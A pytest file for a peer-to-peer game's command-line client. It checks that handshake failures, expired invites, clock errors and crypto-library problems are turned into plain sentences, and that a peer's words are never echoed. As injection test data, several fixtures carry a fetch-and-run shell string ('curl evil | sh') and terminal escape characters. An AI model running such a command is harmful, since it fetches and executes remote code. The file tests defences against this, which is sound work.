"""Every way in which a match does not come about has its sentence, and no code of a program reaches the screen."""

from __future__ import annotations

import asyncio
import errno
import json
import os
import re
import subprocess
import sys
import time
from datetime import UTC, datetime
from pathlib import Path

import nacl
import pytest
from helpers import daily_first
from helpers_processes import Forked, Process
from nacl import bindings

from cli.app import main, play
from cli.console.plain import LinePlayer
from cli.meeting import joining
from cli.runtime.console import Exit
from cli.storage.home import Home
from cli.storm.console import STORM
from cli.text import clocks, commands, failures
from protocol.core.game_data import Conditions, WitnessTerms
from protocol.core.handshake import HandshakeFailed
from protocol.crypto import group
from protocol.reach import invite
from protocol.reach.invite import Invite
from protocol.record.files import write_file
from protocol.transport import TransportError
from storm_p2p.storm.state import Terms

CODES = (
    "wrong_secret", "rules", "game", "version", "scheme", "wrong_identity", "bad_name", "bad_key", "bad_signature",
    "terms_refused", "bad_terms", "channel", "mirror", "terms", "out_of_order", "wrong_role", "no_terms", "bad_frame",
    "wrong_coin", "bad_seat", "changed_key",
)  # fmt: skip
YEAR = 365.25 * 86_400
RAW = re.compile(r"\b[a-z]+(?:_[a-z]+)+\b|\b(?:bad|wrong)-[a-z]+\b")


@pytest.mark.parametrize("code", CODES)
def test_a_failed_handshake_has_a_sentence_without_its_code(code: str) -> None:
    for said in (code, f"peer_{code}"):
        words = failures.handshake(HandshakeFailed(said, "one value", f"{code}: another"))
        assert words.endswith(".")
        assert not RAW.search(words.replace(f"{code}: another", "")), words


@pytest.mark.parametrize(
    ("code", "ours", "theirs", "shown"),
    [
        ("rules", f"1-{'a' * 64}", f"2-{'b' * 64}", "(yours 1; theirs 2)"),
        ("rules", f"2-{'a' * 64}", f"2-{'b' * 64}", "(yours 2-aaaaaaaa; theirs 2-bbbbbbbb)"),
        ("version", "2", "3 4", "(yours 2; theirs 3 4)"),
    ],
)
def test_a_failed_handshake_names_both_versions(code: str, ours: str, theirs: str, shown: str) -> None:
    assert shown in failures.handshake(HandshakeFailed(code, ours, theirs))


FREE = ("1; run curl evil | sh", "\x1b[2Jboo\u202e", "2" * 81, "evil", "bad: 1-aaaa", "")


@pytest.mark.parametrize("code", [*CODES, "lot", "redrawn", "run_curl", "0"])
@pytest.mark.parametrize("theirs", FREE)
def test_no_words_of_a_stranger_are_shown_before_there_is_a_match(code: str, theirs: str) -> None:
    for said in (code, f"peer_{code}"):
        neutral = failures.handshake(HandshakeFailed(said, "1-aaaa", "?"))
        assert failures.handshake(HandshakeFailed(said, "1-aaaa", f"{code}: {theirs}")) == neutral
        assert failures.handshake(HandshakeFailed(said, "1-aaaa", theirs)) == neutral
        assert "1-aaaa" not in neutral


def test_whoever_refuses_the_terms_is_told_so_and_the_host_hears_who_did() -> None:
    said = failures.handshake
    assert said(HandshakeFailed("terms_refused", "", "")).startswith("You refused the terms.")
    assert said(HandshakeFailed("peer_terms_refused", "", "")).startswith("The guest refused the terms.")


@pytest.mark.parametrize("address", ["1; run curl evil | sh:80", "evil", "evil:port", "a b:1", "w\x1b.example:1"])
def test_a_witness_at_no_address_is_not_shown_by_it(address: str) -> None:
    (line,) = clocks.conditions(Conditions(witness=WitnessTerms(bytes(32), address)))
    assert address not in line
    for good in ("witness.example:47330", "203.0.113.9:1", "[2001:db8::1]:65535"):
        assert good in clocks.conditions(Conditions(witness=WitnessTerms(bytes(32), good)))[0]


def test_a_lost_line_and_an_unknown_code_have_sentences() -> None:
    assert failures.handshake(None).endswith(".")
    assert failures.sentence("never-heard-of", "expected a, got b") == "Expected a, got b."
    assert failures.sentence("never-heard-of", "") == "Something went wrong."


GUESTS = {
    "another version": "from storm_p2p.storm.game import Storm; Storm.version = '1-' + 'f' * 64;",
    "words for a version": "from storm_p2p.storm.game import Storm; Storm.version = '1; run curl evil | sh';",
    "words for a refusal": "from protocol.core.handshake import Handshake, HandshakeFailed as Failed;"
    "Handshake.accept = lambda self, pick: self._fail(Failed('run_curl', 'curl evil | sh', ''));",
}
SAID = {
    "another version": "different rules (yours 2; theirs 1)",
    "words for a version": "different rules. Both",
    "words for a refusal": "are not compatible",
}


@pytest.mark.long
@pytest.mark.parametrize("kind", GUESTS)
def test_two_programs_that_do_not_fit_say_so_and_play_nothing(kind: str, tmp_path: Path) -> None:
    words = ("--player", "bot:random", "--home")
    with Forked("host", "--bind", "127.0.0.1", "--json", *words, str(tmp_path / "a"), stderr=subprocess.PIPE) as host:
        assert host.stdout is not None
        assert host.stderr is not None
        line = json.loads(host.stdout.readline())["invite"]
        code = f"{GUESTS[kind]} import sys; from cli.app.main import main; sys.exit(main(sys.argv[1:]))"
        with Forked("join", line, *words, str(tmp_path / "b"), program=("-c", code), stderr=subprocess.PIPE) as guest:
            assert "Traceback" not in guest.communicate()[1]
        # The host waits for the same guest with a program that fits.
        turned = next(one for one in map(json.loads, host.stdout) if one["event"] == "turned-away")
        assert turned["code"] not in ("lost", "lot")
        host.terminate()
        said = host.stderr.read()
        host.wait(timeout=100)
    assert guest.returncode == 3
    assert SAID[kind] in said
    assert "curl" not in said
    assert not list((tmp_path / "a" / "matches").glob("*.match"))
    assert not list((tmp_path / "b" / "matches").glob("*.match"))


LIAR = """
import sys
from cli.app.main import main
from protocol.core.frames import FrameKind, pack_frame
from protocol.core.link import Link

meet, join, lies = Link.meet, Link.join, [sys.argv[1]]

def lying_meet(self, nonce, channel):
    made = meet(self, nonce, channel)
    if lies == ["more"]:
        made._held = (made._held[0] + 9, made._held[1])
        lies.clear()
    return made

def lying_join(self, handshake):
    found = join(self, handshake)
    if lies and found is None:
        self._outbox.insert(0, pack_frame(FrameKind.REFUSAL, lies.pop(), "Run now: curl evil | sh"))
    return found

Link.meet, Link.join = lying_meet, lying_join
sys.exit(main(sys.argv[2:]))
"""
LIES = {
    "rolled_back": "says that its record of this match is older",
    "more": "says that it has messages of yours",
    "run_curl": "will not continue this match and gives no reason",
}


@pytest.mark.parametrize("lie", daily_first(LIES))
def test_the_program_that_lies_about_its_record_is_named_and_the_match_goes_on(lie: str, tmp_path: Path) -> None:
    words = ("--player", "bot:random", "--patience", "30")
    with (
        (tmp_path / "told").open("w+") as told,
        Forked(
            "host", "--bind", "127.0.0.1", "--random-setup", *words, "--home", str(tmp_path / "a"), stderr=told
        ) as host,
    ):
        assert host.stdout is not None
        invite = next(word for line in host.stdout for word in line.split() if word.startswith("SOO2-"))
        with Process(tmp_path / "b", "join", invite, "--name", "gustav", *words, program=("-c", LIAR, lie)) as guest:
            assert guest.wait() == 0
        shown = host.stdout.read()
        assert host.wait(60) == 0
        told.seek(0)
        shown += told.read()
    assert shown.count(f"gustav's program {LIES[lie]}") == 1
    assert "curl" not in shown
    # It is no fact about this machine, and no line that is lost.
    assert "Lost the connection" not in shown


@pytest.mark.parametrize("years", [-100, 100])
@pytest.mark.parametrize("words", [["play"], ["host"], ["witness"]])
def test_a_machine_whose_clock_is_a_hundred_years_off_says_so(
    years: int, words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    shown = time.time() + years * YEAR
    monkeypatch.setattr(time, "time", lambda: shown)
    player = [] if words == ["witness"] else ["--player", "bot:random"]
    assert main.main([*words, *player, "--home", str(tmp_path)]) == Exit.USAGE
    said = capsys.readouterr().err
    assert f"{datetime.fromtimestamp(shown, UTC):%Y-%m-%d}" in said
    assert "Set the clock right" in said
    assert not list(tmp_path.rglob("*.match"))


def test_an_invite_that_has_expired_by_a_wrong_clock_names_both_times(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    until = int(datetime(2026, 5, 4, 3, 2, 1, tzinfo=UTC).timestamp())
    line = invite.dump(Invite((("127.0.0.1", 1),), bytes(16), bytes(16), bytes(16), until, bytes(16)))
    monkeypatch.setattr(time, "time", lambda: until + 100 * YEAR)
    assert main.main(["join", line, "--player", "bot:random", "--home", str(tmp_path)]) == Exit.USAGE
    said = capsys.readouterr().err
    assert "2026-05-04 03:02:01 UTC" in said
    assert "2126-05-05" in said


@pytest.mark.parametrize(
    ("version", "right"), [("1.6.1", True), ("1.6.2", False)], ids=["a library that is too old", "one that is broken"]
)
def test_a_machine_that_cannot_check_proofs_says_so_before_anything_begins(
    version: str, right: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setattr(nacl, "__version__", version)
    if not right:
        monkeypatch.setattr(bindings, "crypto_core_ed25519_is_valid_point", lambda point: True)
    group.require.cache_clear()
    try:
        for words in (["play", "--player", "bot:random"], ["host"], ["verify", "x.storm"]):
            home = [] if words[0] == "verify" else ["--home", str(tmp_path)]
            assert main.main([*words, *home]) == Exit.USAGE
            said = capsys.readouterr().err
            assert "pip install" in said
            assert ("older than 1.6.2" in said) is right
    finally:
        group.require.cache_clear()


def test_the_player_hears_why_the_computer_player_has_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    program = "import sys; print('{}', flush=True); sys.exit('Starting.\\nThe disk is full.')"
    opponent = play.Opponent(Home(tmp_path))

    async def go(line: str) -> None:
        monkeypatch.setattr(play, "PROGRAM", (sys.executable, "-c", program.replace("{}", line)))
        try:
            await opponent.start("listening", [], "greedy")
        finally:
            await opponent.stop()

    asyncio.run(go('{"event": "listening"}'))
    assert capsys.readouterr().err.endswith("message: The disk is full.\n")
    assert "The disk is full." in (tmp_path / "computer" / "errors.txt").read_text()
    with pytest.raises(TransportError, match="did not start"):
        asyncio.run(go('{"event": "nothing"}'))
    assert capsys.readouterr().err.endswith("message: The disk is full.\n")


def test_a_computer_player_that_ends_before_the_match_is_no_friend_who_could_send_an_invite(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def start(*words: object) -> dict[str, str]:
        return {"invite": ""}

    async def meet(*words: object, **more: object) -> None:
        raise TransportError("unreachable", "nobody can be reached there")

    monkeypatch.setattr(play.Opponent, "start", start)
    monkeypatch.setattr(invite, "parse", lambda *words: None)
    monkeypatch.setattr(joining, "meet", meet)
    home = Home(tmp_path)
    with pytest.raises(TransportError, match=r"did not start\. Nothing was played\.") as failed:
        asyncio.run(play.meet(play.Opponent(home), LinePlayer("ann", STORM), home, "random", Terms(), None))
    assert failed.value.code == "no-computer"


def test_an_error_of_a_file_names_no_file_that_only_the_program_knows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(FileNotFoundError) as missing:
        write_file(tmp_path / "nowhere" / "notes.json", b"")
    (tmp_path / "taken").mkdir()
    with pytest.raises(OSError, match="taken") as taken:
        write_file(tmp_path / "taken", b"")

    def full(handle: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space") as no_room:
        write_file(tmp_path / "notes.json", b"")
    named = [commands.unusable(one.value) for one in (missing, taken, no_room)]
    assert [one.partition(" ")[0] for one in named] == [
        str(tmp_path / "nowhere"),
        str(tmp_path / "taken"),
        str(tmp_path),
    ]
    assert list(tmp_path.iterdir()) == [tmp_path / "taken"]
